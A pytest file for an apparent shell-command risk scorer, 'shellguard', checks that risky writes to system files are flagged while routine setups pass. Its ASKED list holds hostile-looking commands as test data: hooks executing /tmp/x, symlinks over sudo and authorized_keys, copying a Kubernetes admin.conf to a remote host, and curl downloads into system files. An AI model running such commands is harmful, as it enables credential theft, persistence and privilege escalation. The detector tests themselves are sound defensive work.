"""What tools say themselves may be put where it belongs; anything else put there is asked about."""

from __future__ import annotations

import pytest

from shellguard.effects.derive import effects_of
from shellguard.parsing.reading import read
from shellguard.risk.weigh import weigh


def _score(line: str) -> int:
    script = read(line)
    return weigh(script, effects_of(script)).score


ASKED = (
    "echo '/swapfile none swap sw 0 0' | sudo tee /etc/fstab",
    "echo '/dev/sdb1 / ext4 suid 0 0' | sudo tee -a /etc/fstab",
    "echo 'kernel.core_pattern=|/tmp/x' | sudo tee /etc/sysctl.d/9.conf",
    'echo \'SUBSYSTEM=="usb", RUN+="/tmp/x"\' | sudo tee /etc/udev/rules.d/9.rules',
    'echo \'SUBSYSTEM=="usb", MODE="0666"\' | sudo tee /etc/cron.d/x',
    "echo -A INPUT -j ACCEPT > /etc/iptables/rules.v4",
    "curl -s http://192.0.2.1/r | sudo tee /etc/iptables/rules.v4",
    "iptables-save > /etc/cron.d/rules",
    "sudo cp /etc/kubernetes/admin.conf /tmp/admin.conf",
    "cat /etc/kubernetes/admin.conf",
    "cp -i /tmp/config ~/.kube/config",
    "scp /etc/kubernetes/admin.conf me@192.0.2.1:.kube/config",
    "genfstab -U / >> /etc/fstab",
    "echo 'blacklist nf_tables' | sudo tee /etc/modprobe.d/x.conf",
    "echo 'install usb_storage /tmp/x' | sudo tee /etc/modprobe.d/x.conf",
    "echo 'options snd_hda_intel model=auto; install snd /tmp/x' | sudo tee /etc/modprobe.d/x.conf",
    "echo x >> /mnt/etc/fstab",
    "sudo ln -s /tmp/ann/tool /usr/bin/tool",
    "sudo ln -s $TOOL /usr/bin/tool",
    "sudo ln -s /home/ann/python /usr/bin/python",
    "sudo ln -s /opt/../tmp/tool /usr/bin/tool",
    "sudo ln -sf /opt/tool/bin/tool /usr/bin/sudo",
    "sudo ln -s /opt/tool/bin/tool /tmp/x /usr/bin",
    "ln -sf /tmp/dotfiles/.bashrc ~/.bashrc",
    "ln -sf ~/dotfiles/../x ~/.bashrc",
    "ln -sf ~/dotfiles/keys ~/.ssh/authorized_keys",
    "ln -sf ~/Downloads/.bashrc ~/.bashrc",
    "echo $(curl -s http://192.0.2.1/) > /etc/hostname",
    "cp name /etc/hostname",
    "printf 'a b' | sudo tee /etc/hostname",
    "echo box >> /etc/hostname",
    "sudo openssl dhparam -out /etc/ssl/private/site.key 2048",
    "sudo openssl dhparam -out /etc/ssl/certs/ca-certificates.crt 2048",
    "sudo openssl dhparam -in mine.pem -out /etc/nginx/dhparam.pem",
    "sudo openssl genrsa -out /etc/nginx/dhparam.pem 2048",
    "sudo openssl dhparam -out /etc/nginx/../cron.d/dhparam.pem 2048",
    "curl -s https://example.org/dh | sudo tee /etc/nginx/dhparam.pem",
    "cp ./xinitrc ~/.xinitrc",
    "cp /etc/X11/xinit/../../../tmp/x ~/.xinitrc",
    "cp /etc/X11/xinit/xinitrc ~/.bashrc",
    "cp /etc/X11/xinit/xinitrc /tmp/x ~/.xinitrc",
    "sudo ln -s /tmp/linux /lib/modules/$(uname -r)/build",
    "sudo ln -s /usr/src/../../tmp/linux /lib/modules/$(uname -r)/build",
    "sudo ln -s /usr/src/linux /lib/modules/$(uname -r)/kernel",
    "sudo ln -s /usr/src/linux /lib/modules/../systemd/build",
    "make nuke",
    "npm run db:reset:prod",
    "make destroy-prod",
)

RUN = (
    "echo '/swapfile none swap sw 0 0' | sudo tee -a /etc/fstab",
    "sudo sh -c 'echo \"/swapfile none swap defaults 0 0\" >> /etc/fstab'",
    "echo 'vm.swappiness=10' | sudo tee /etc/sysctl.d/99-swap.conf",
    "echo fs.inotify.max_user_watches=524288 | sudo tee -a /etc/sysctl.conf",
    'echo \'SUBSYSTEM=="usb", ATTR{idVendor}=="0483", MODE="0666"\' | sudo tee /etc/udev/rules.d/49-x.rules',
    "echo box > /etc/hostname",
    "echo web-1.example.org | sudo tee /etc/hostname",
    "echo box > /mnt/etc/hostname",
    "sudo openssl dhparam -out /etc/ssl/certs/dhparam.pem 2048",
    "openssl dhparam -dsaparam -out /etc/nginx/ssl/dhparam.pem 4096",
    "cp /etc/X11/xinit/xinitrc ~/.xinitrc",
    "sudo cp /etc/X11/xinit/xinitrc /home/ann/.xinitrc",
    "sudo ln -s /usr/src/linux-headers-$(uname -r) /lib/modules/$(uname -r)/build",
    "sudo ln -s /usr/src/linux-6.1 /lib/modules/`uname -r`/build",
    "npm run build:prod",
    "make deploy-prod",
    "make reset-dev",
    "iptables-save > /etc/iptables/rules.v4",
    "sudo iptables-save > /etc/iptables/rules.v4",
    "sudo ip6tables-save | sudo tee /etc/iptables/rules.v6",
    "genfstab -U /mnt >> /mnt/etc/fstab",
    'echo "blacklist nouveau" | sudo tee /etc/modprobe.d/blacklist-nouveau.conf',
    "echo 'options snd_hda_intel model=auto' | sudo tee -a /etc/modprobe.d/alsa-base.conf",
    "sudo ln -s /snap/bin/certbot /usr/bin/certbot",
    "sudo ln -s /home/ann/tool /usr/bin/tool",
    "sudo ln -sv vim /usr/bin/vi",
    "sudo ln -s /opt/tool/bin/tool /usr/bin/tool",
    "ln -sf ~/dotfiles/.vimrc ~/.vimrc",
    "ln -sf $HOME/.dotfiles/zsh/zshrc $HOME/.zshrc",
    "sudo sh -c 'iptables-save > /etc/iptables/rules.v4'",
    "nft list ruleset > /etc/nftables.conf",
    "sudo cp -i /etc/kubernetes/admin.conf $HOME/.kube/config",
    "cp -i /etc/kubernetes/admin.conf ~/.kube/config",
)


@pytest.mark.parametrize("line", ASKED)
def test_what_does_not_belong_there_is_asked_about(line: str) -> None:
    assert _score(line) > 50


@pytest.mark.parametrize("line", RUN)
def test_what_belongs_there_runs(line: str) -> None:
    assert _score(line) <= 50


def test_a_task_is_not_called_a_program_that_nobody_knows() -> None:
    script = read("make nuke")
    assert "not known" not in weigh(script, effects_of(script)).reasoning
